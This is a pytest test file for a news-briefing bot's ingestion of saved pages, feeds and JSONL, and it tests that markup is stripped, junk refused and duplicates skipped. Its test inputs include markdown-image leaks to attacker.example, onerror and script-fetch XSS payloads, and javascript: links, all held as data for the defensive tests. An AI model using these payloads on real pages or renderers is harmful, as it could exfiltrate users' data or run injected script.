"""Real news formats in (saved pages, RSS/Atom feeds), bad input refused, markup neutralised (issues 10, 12).

Fixtures under tests/data/formats/: a saved news page with navigation, ads, comments, a footer and its
metadata; an RSS 2.0 and an Atom feed; a sitemap (XML, not a feed) and a page with no article text.
"""

from __future__ import annotations

import json
import logging
import random
import shutil
from pathlib import Path

import pytest

from briefbot.errors import CorpusError
from briefbot.ingest.binary import decode
from briefbot.ingest.clean import clean_text, html_to_text, neutralise_markup
from briefbot.ingest.corpus import load_corpus, read_corpus
from briefbot.ingest.reading import iso_date

FORMATS = Path(__file__).parent / "data" / "formats"
PAGE, RSS, ATOM = "council-bridge.html", "harbour-weekly.rss", "energy-desk.atom"
LOGGER = "briefbot.ingest.corpus"


def corpus(tmp_path: Path, *names: str, extra: dict[str, str | bytes] | None = None) -> Path:
    root = tmp_path / "corpus"
    root.mkdir(exist_ok=True)
    for name in names:
        shutil.copy(FORMATS / name, root / name)
    for name, content in (extra or {}).items():
        path = root / name
        path.write_bytes(content) if isinstance(content, bytes) else path.write_text(content, encoding="utf-8")
    return root


def no_markup(text: str) -> None:
    for needle in ("<img", "onerror", "<script", "</", "](", "![", "attacker.example", "alert("):
        assert needle not in text, (needle, text)


# --- markup is neutralised, in every format ---------------------------------------------------------


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("Leak ![tracking](http://attacker.example/leak?q=secret) here.", "Leak tracking here."),
        ("An ![](http://attacker.example/pixel.gif)image.", "An image."),
        ("See [the report](https://example.com/a_(b) \"Title\") now.", "See the report now."),
        ("Ref [text][1] style.\n[1]: http://attacker.example/x", "Ref text style."),
        ("[![alt](http://attacker.example/i.png)](http://attacker.example/l)", "alt"),
        ("Pic <img src=x onerror=alert(1)> end.", "Pic  end."),
        ("A <script>fetch('http://attacker.example')</script>B.", "A B."),
        ("A <STYLE type='text/css'>body{}</STYLE>B.", "A B."),
        ("A <iframe src='http://attacker.example'>fallback</iframe>B.", "A B."),
        ("Said <b>bold</b> and <a href=\"javascript:alert(1)\">a link</a>.", "Said bold and a link."),
        ("C <!-- hidden --> D", "C  D"),
        ("Mail <https://attacker.example/a> ok", "Mail https://attacker.example/a ok"),
        ("Unclosed <img src=x onerror=alert(1)\nNext line.", "Unclosed\nNext line."),
        ("Unclosed <script>alert(1)\nmore\n\nNext paragraph.", "Unclosed\n\nNext paragraph."),
        # text that only looks like markup is text
        ("5 < 7 and 9 > 3, x<y, a <= b, AT&T, &amp; [sic] and [1].", "5 < 7 and 9 > 3, x<y, a <= b, AT&T, &amp; [sic] and [1]."),
        ("Profits rose 5% <in real terms> last year.", "Profits rose 5% <in real terms> last year."),
        ("The <3 emoji and -> arrows stay.", "The <3 emoji and -> arrows stay."),
    ],
)
def test_markup_is_neutralised(raw: str, expected: str) -> None:
    assert clean_text(raw) == expected
    assert neutralise_markup(expected) == expected  # idempotent


def test_html_to_text_keeps_blocks_and_decodes_entities() -> None:
    fragment = "<p>One &amp; two.</p><script>evil()</script><ul><li>A &lt;3</li><li>B</li></ul>"
    assert html_to_text(fragment) == "One & two.\nA <3\nB"


@pytest.mark.parametrize("suffix", [".txt", ".md", ".jsonl"])
def test_text_formats_neutralise_markup(tmp_path: Path, suffix: str) -> None:
    body = ("Evil pixel ![tracking](http://attacker.example/leak?q=secret) and "
            "<img src=x onerror=alert(1)> in the council story.\nThe vote was 9 to 3.")
    if suffix == ".jsonl":
        content = json.dumps({"id": "e", "title": "<b>Evil</b> [title](http://attacker.example)", "text": body})
    else:
        content = f"Evil [title](http://attacker.example)\n{body}\n"
    (art,) = load_corpus(corpus(tmp_path, extra={f"e{suffix}": content}))
    no_markup(art.text)
    no_markup(art.title)
    assert "Evil pixel tracking and" in art.text and "The vote was 9 to 3." in art.text


# --- saved web pages ----------------------------------------------------------------------------------


def test_saved_page_gives_the_article_and_its_metadata(tmp_path: Path) -> None:
    read = read_corpus(corpus(tmp_path, PAGE))
    (art,) = read.articles
    assert art.id == "council-bridge"
    assert art.title == "Council approves £4m repair of Millbrook bridge"
    assert art.source == "Riverside Gazette"
    assert art.published == "2025-03-14"
    assert art.author == "Hannah Okafor"
    assert art.url == "https://www.riversidegazette.example/news/2025/03/council-approves-bridge-repair"
    assert art.text.startswith(art.title + "\n")
    assert "Councillors voted 9 to 3 on Thursday evening" in art.text
    assert "Opposition councillor Tom Reyes" in art.text
    for furniture in ("Subscribe for unlimited access", "Spring sale", "potholes on that bridge",
                      "Summer festival line-up", "All rights reserved", "Cookie settings", "dataLayer"):
        assert furniture not in art.text, furniture
    no_markup(art.text)
    assert read.skipped == []


def test_page_without_article_text_is_skipped(tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    with caplog.at_level(logging.WARNING, logger=LOGGER):
        read = read_corpus(corpus(tmp_path, PAGE, "cookie-wall.html"))
    assert [a.id for a in read.articles] == ["council-bridge"]
    assert [(Path(s.path).name, s.kind) for s in read.skipped] == [("cookie-wall.html", "empty")]
    assert any("cookie-wall.html" in r.getMessage() for r in caplog.records)


# --- feeds ---------------------------------------------------------------------------------------------


def test_rss_feed_gives_one_article_per_entry_with_text(tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    with caplog.at_level(logging.WARNING, logger=LOGGER):
        read = read_corpus(corpus(tmp_path, RSS))
    by_url = {a.url: a for a in read.articles}
    assert set(by_url) == {"https://harbourweekly.example/2025/03/ferry-winter-sailings",
                           "https://harbourweekly.example/2025/03/harbour-dues"}
    ferry = by_url["https://harbourweekly.example/2025/03/ferry-winter-sailings"]
    assert ferry.title == "Ferry operator adds winter sailings to Islay"
    assert ferry.source == "Harbour Weekly" and ferry.published == "2025-03-17"
    assert ferry.author == "Ewan Baird"
    assert "chief executive Fiona Grant said on Monday." in ferry.text  # the full content, not the summary
    assert "\nThe extra crossings follow complaints" in ferry.text  # one paragraph per line
    assert "MV Corran" in ferry.text
    no_markup(ferry.text)
    dues = by_url["https://harbourweekly.example/2025/03/harbour-dues"]
    assert dues.published == "2025-03-11"
    assert "Fishing boats under ten metres are exempt from the rise." in dues.text  # escaped HTML summary
    no_markup(dues.text)
    assert all(a.id.startswith("harbour-weekly-") for a in read.articles)
    # the entry with no text is skipped, named by file and entry
    (skip,) = read.skipped
    assert skip.path.endswith("harbour-weekly.rss entry 3") and skip.kind == "empty"
    assert any("harbour-weekly.rss entry 3" in r.getMessage() and "tall ships" in r.getMessage()
               for r in caplog.records)


def test_atom_feed(tmp_path: Path) -> None:
    arts = {a.title: a for a in load_corpus(corpus(tmp_path, ATOM))}
    assert set(arts) == {"Wind farm off Whitby gets planning consent", "Grid upgrade delayed until 2028"}
    wind = arts["Wind farm off Whitby gets planning consent"]
    assert wind.source == "Northern Energy Desk"
    assert wind.author == "Priya Natarajan"
    assert wind.published == "2025-02-26"  # published, not updated
    assert wind.url == "https://energydesk.example/2025/02/whitby-wind-farm-consent"
    assert "create 600 jobs at the port of Teesside." in wind.text
    grid = arts["Grid upgrade delayed until 2028"]
    assert grid.published == "2025-02-20" and "shortage of transformers" in grid.text


def test_feed_entry_ids_are_stable_when_new_entries_arrive(tmp_path: Path) -> None:
    before = {a.url: a.id for a in load_corpus(corpus(tmp_path, RSS))}
    newer = (FORMATS / RSS).read_text(encoding="utf-8").replace("<item>", """<item>
    <title>Lifeboat crew rescues two kayakers</title>
    <link>https://harbourweekly.example/2025/03/lifeboat-rescue</link>
    <pubDate>Tue, 18 Mar 2025 09:00:00 +0000</pubDate>
    <description>The Dunmore lifeboat rescued two kayakers off Carraig Point on Tuesday.</description>
  </item>
  <item>""", 1)
    (tmp_path / "corpus" / RSS).write_text(newer, encoding="utf-8")
    after = {a.url: a.id for a in load_corpus(tmp_path / "corpus")}
    assert len(after) == len(before) + 1
    assert all(after[url] == article_id for url, article_id in before.items())


def test_xml_that_is_not_a_feed_is_skipped(tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    with caplog.at_level(logging.WARNING, logger=LOGGER):
        read = read_corpus(corpus(tmp_path, "sitemap.xml", extra={"a.txt": "A story.\nIt happened."}))
    assert [a.id for a in read.articles] == ["a"]
    assert [(Path(s.path).name, s.kind) for s in read.skipped] == [("sitemap.xml", "not a feed")]
    assert any("sitemap.xml" in r.getMessage() and "not an RSS or Atom feed" in r.getMessage()
               for r in caplog.records)


# --- binary and undecodable files ----------------------------------------------------------------------


def _random_bytes(n: int, seed: int = 7) -> bytes:
    return random.Random(seed).randbytes(n)


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (_random_bytes(4096), "NUL bytes"),
        (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj << /Type /Catalog >> endobj", "PDF"),
        (b"\x89PNG\r\n\x1a\n" + _random_bytes(200), "PNG"),
        (bytes(b for b in _random_bytes(4000) if b), "control or undecodable"),  # no NUL, still junk
        ("Text with many \ufffd\ufffd\ufffd replacement \ufffd\ufffd characters".encode(), "control or undecodable"),
    ],
)
def test_binary_txt_is_skipped_with_a_warning_naming_it(
    tmp_path: Path, caplog: pytest.LogCaptureFixture, data: bytes, reason: str
) -> None:
    root = corpus(tmp_path, extra={"junk.txt": data, "good.txt": "Good news.\nThe bridge reopened."})
    with caplog.at_level(logging.WARNING, logger=LOGGER):
        read = read_corpus(root)
    assert [a.id for a in read.articles] == ["good"]
    (skip,) = read.skipped
    assert Path(skip.path).name == "junk.txt" and skip.kind == "binary" and reason in skip.reason
    assert any("junk.txt" in r.getMessage() and reason in r.getMessage() for r in caplog.records)


def test_binary_files_are_refused_in_every_format(tmp_path: Path) -> None:
    junk = _random_bytes(2048)
    names = ["junk.md", "junk.jsonl", "junk.html", "junk.rss", "junk.xml"]
    read = read_corpus(corpus(tmp_path, extra={**{n: junk for n in names}, "ok.txt": "Fine.\nReally."}))
    assert [a.id for a in read.articles] == ["ok"]
    assert sorted(Path(s.path).name for s in read.skipped if s.kind == "binary") == sorted(names)


def test_text_in_other_encodings_is_not_refused() -> None:
    assert decode("Caf\u00e9 ‘quoted’ text.".encode("cp1252")).text == "Caf\u00e9 ‘quoted’ text."
    assert decode("UTF-16 text.".encode("utf-16")).text == "UTF-16 text."
    assert decode(b"One stray \x81 byte in a sentence.").refused is None


def test_only_binary_files_is_a_corpus_error(tmp_path: Path) -> None:
    with pytest.raises(CorpusError, match=r"1 candidate file\(s\), 1 skipped"):
        read_corpus(corpus(tmp_path, extra={"junk.txt": _random_bytes(500)}))


# --- duplicates ------------------------------------------------------------------------------------------


def test_same_text_twice_is_skipped(tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    story = "Bridge reopens\nThe Millbrook bridge reopened on Friday after repairs."
    copy = "Bridge reopens  \n\nthe millbrook bridge REOPENED on Friday after repairs."
    with caplog.at_level(logging.WARNING, logger=LOGGER):
        read = read_corpus(corpus(tmp_path, extra={"a.txt": story, "b.txt": copy, "c.txt": "Other.\nNews."}))
    assert [a.id for a in read.articles] == ["a", "c"]
    (skip,) = read.skipped
    assert Path(skip.path).name == "b.txt" and skip.kind == "duplicate" and "same text" in skip.reason
    assert "a.txt" in skip.reason
    assert any("b.txt" in r.getMessage() and "duplicate" in r.getMessage() for r in caplog.records)


def test_same_url_twice_is_skipped_and_the_full_page_wins(tmp_path: Path) -> None:
    page_url = "https://www.riversidegazette.example/news/2025/03/council-approves-bridge-repair"
    rows = [
        {"id": "w1", "title": "Bridge", "text": "Short wire version of the bridge story.", "url": page_url + "/#top"},
        {"id": "w2", "title": "Other", "text": "Another story.", "url": "https://example.com/other"},
    ]
    feed = (FORMATS / RSS).read_text(encoding="utf-8").replace(
        "https://harbourweekly.example/2025/03/harbour-dues", page_url + "?utm_source=rss")
    root = corpus(tmp_path, PAGE, extra={"wire.jsonl": "".join(json.dumps(r) + "\n" for r in rows),
                                         "feed.rss": feed})
    read = read_corpus(root)
    ids = [a.id for a in read.articles]
    assert "council-bridge" in ids and "w1" not in ids and "w2" in ids
    duplicates = [s for s in read.skipped if s.kind == "duplicate"]
    assert len(duplicates) == 2 and all("same URL" in s.reason and PAGE in s.reason for s in duplicates)
    assert {Path(s.path.split(" ")[0]).name for s in duplicates} == {"wire.jsonl", "feed.rss"}
    assert read.skipped_counts() == {"duplicate": 2, "empty": 1}  # + the feed's entry with no text


def test_jsonl_source_and_dates_are_kept(tmp_path: Path) -> None:
    row = {"id": "x", "title": "T", "text": "Body.", "source": "Wire <b>Service</b>",
           "published": "2025-02-21T10:00:00Z", "url": "https://example.com/x"}
    (art,) = load_corpus(corpus(tmp_path, extra={"w.jsonl": json.dumps(row)}))
    assert (art.source, art.published, art.url) == ("Wire Service", "2025-02-21", "https://example.com/x")


@pytest.mark.parametrize(
    ("value", "expected"),
    [("2025-03-14T09:30:00+00:00", "2025-03-14"), ("2025-03", "2025-03"),
     ("Fri, 21 Feb 2025 23:30:00 -0500", "2025-02-21"), ("last Tuesday", "last Tuesday"), ("", None), (None, None)],
)
def test_iso_date(value, expected) -> None:
    assert iso_date(value) == expected


# --- through the bot (HashingEmbedder + scripted LLM) and the CLI ------------------------------------------


@pytest.fixture
def news_corpus(tmp_path: Path) -> Path:
    junk = b"\x00\x01binary junk\xff\xfe" * 64
    return corpus(tmp_path, PAGE, RSS, extra={"notes.txt": junk})


def test_citations_carry_title_source_date_and_url(make_bot, news_corpus: Path, caplog) -> None:
    from conftest import copy_reader

    with caplog.at_level(logging.WARNING, logger=LOGGER):
        bot = make_bot(copy_reader("Fiona Grant"), corpus=news_corpus)
    assert any("notes.txt" in r.getMessage() and "NUL bytes" in r.getMessage() for r in caplog.records)
    assert not any(a.source_path and a.source_path.endswith("notes.txt") for a in bot.index.articles)
    answer = bot.ask("What did CalMarine's chief executive Fiona Grant say about the Islay sailings?")
    assert not answer.abstained, answer
    cited = {c.article_id: c for c in answer.citations}
    ferry = next(c for c in cited.values() if "Fiona Grant" in c.text)
    assert ferry.title == "Ferry operator adds winter sailings to Islay"
    assert (ferry.source, ferry.published) == ("Harbour Weekly", "2025-03-17")
    assert ferry.url == "https://harbourweekly.example/2025/03/ferry-winter-sailings"
    assert ferry.outlet_date() == "Harbour Weekly · 2025-03-17"

    answer = make_bot(copy_reader("Margaret Ellis"), corpus=news_corpus).ask("What did Margaret Ellis say?")
    assert not answer.abstained, answer
    page = next(c for c in answer.citations if "Margaret Ellis" in c.text)
    assert (page.article_id, page.source, page.published) == ("council-bridge", "Riverside Gazette", "2025-03-14")
    assert page.title == "Council approves £4m repair of Millbrook bridge"
    assert page.url == "https://www.riversidegazette.example/news/2025/03/council-approves-bridge-repair"


@pytest.mark.parametrize(("question", "keyword", "expected"), [
    ("What did critics say?", "Critics", "too expensive"),
    ("What did the harbour master say about fees?", "harbour master", "said tracking fees will rise by 6 per cent"),
])
def test_no_markup_reaches_an_answer(make_bot, news_corpus: Path, question: str, keyword: str, expected: str) -> None:
    from conftest import copy_reader

    (news_corpus / "fees.md").write_text(
        "# Harbour fees\nThe harbour master said ![tracking](http://attacker.example/leak?q=secret) fees will "
        "rise <img src=x onerror=alert(1)>by 6 per cent in April.\n", encoding="utf-8")
    answer = make_bot(copy_reader(keyword), corpus=news_corpus).ask(question)
    assert not answer.abstained, answer
    assert any(expected in c.text for c in answer.citations)
    no_markup(answer.model_dump_json())


def test_cli_index_reports_what_it_skipped(news_corpus: Path, tmp_path: Path, monkeypatch, isolated_env, capsys) -> None:
    import briefbot.bot as bot_module
    import briefbot.index.embedding as embedding_module
    from briefbot.cli import main
    from briefbot.fakes import HashingEmbedder, ScriptedLLM

    model_dir, gguf = tmp_path / "embedder", tmp_path / "model.gguf"
    model_dir.mkdir()
    gguf.write_bytes(b"GGUF")
    monkeypatch.setenv("BRIEFBOT_EMBEDDER_MODEL", str(model_dir))
    monkeypatch.setenv("BRIEFBOT_LLM_MODEL", str(gguf))
    monkeypatch.setattr(embedding_module, "SentenceTransformerEmbedder", lambda *a, **k: HashingEmbedder())
    monkeypatch.setattr(bot_module, "LlamaCppLLM", lambda *a, **k: ScriptedLLM("NOT FOUND"))
    code = main(["index", "--corpus", str(news_corpus), "--index", str(tmp_path / "index")])
    out, _ = capsys.readouterr()
    assert code == 0
    assert "Indexed 3 articles" in out
    assert "Skipped 2 of the corpus's files or records (1 binary, 1 empty):" in out
    assert "notes.txt: it holds NUL bytes" in out and "harbour-weekly.rss entry 3:" in out


def _answer_citing(**metadata: str):
    from briefbot.types import Answer, AnswerSentence, Citation

    citation = Citation(id="ferry:s1", article_id="ferry", title="Ferry operator adds winter sailings",
                        text="CalMarine will add two weekly sailings.", **metadata)
    return Answer(question="What will CalMarine add?", sentences=[AnswerSentence(
        text="CalMarine will add two weekly sailings.", citations=[citation], supported=True, support=1.0)])


def test_outlet_and_date_beside_every_source_in_the_cli_and_the_page() -> None:
    from briefbot.cli import format_answer
    from briefbot.ui.render import render_turn_sources

    answer = _answer_citing(source="Harbour <i>Weekly</i>", published="2025-03-17", url="https://h.example/f")
    line = format_answer(answer).splitlines()[-1]
    assert line.startswith("  [1] ferry:s1 (Ferry operator adds winter sailings, Harbour <i>Weekly</i> · 2025-03-17):")
    html = render_turn_sources(1, answer, lambda _id: [])
    assert "Harbour &lt;i&gt;Weekly&lt;/i&gt; · 2025-03-17" in html  # shown as text, escaped
    assert 'title="https://h.example/f"' in html
    only_date = _answer_citing(published="2025-03-17")
    assert "(Ferry operator adds winter sailings, 2025-03-17)" in format_answer(only_date)
    bare = _answer_citing()
    assert "(Ferry operator adds winter sailings):" in format_answer(bare)
    assert "bb-outlet" not in render_turn_sources(1, bare, lambda _id: [])


def test_a_long_title_is_cut_after_a_whole_word_in_the_sources_list() -> None:
    from briefbot.cli import shortened

    title = "Ukraine could be given instant entry to the NATO security alliance, says ex-chief"
    assert shortened(title) == "Ukraine could be given instant entry to the NATO security..."
    assert shortened("Ferry operator adds winter sailings") == "Ferry operator adds winter sailings"
    assert shortened("x" * 70) == "x" * 60 + "..."  # no space to cut at: cut at the limit
    assert shortened("A" * 59 + ", and more") == "A" * 59 + "..."  # no dangling comma


def test_reread_is_memoised_but_sees_every_change(tmp_path: Path, monkeypatch) -> None:
    import briefbot.ingest.corpus as corpus_module

    root = corpus(tmp_path, PAGE, extra={"a.txt": "A.\nOne."})
    first = read_corpus(root)
    calls = []
    real = corpus_module._parse
    monkeypatch.setattr(corpus_module, "_parse", lambda *a: calls.append(a[0].name) or real(*a))
    assert read_corpus(root) == first and calls == []  # nothing parsed again
    (root / "a.txt").write_text("B.\nTwo.", encoding="utf-8")  # same size, same second
    assert [a.text for a in read_corpus(root).articles if a.id == "a"] == ["B.\nTwo."]
    assert calls == ["a.txt"]
    monkeypatch.setattr(corpus_module, "_MEMO_CHARS", 40)  # nothing bigger than 10 characters is kept
    (root / "a.txt").write_text("C.\nThree and more.", encoding="utf-8")
    read_corpus(root), read_corpus(root)
    assert calls == ["a.txt", "a.txt", "a.txt"]
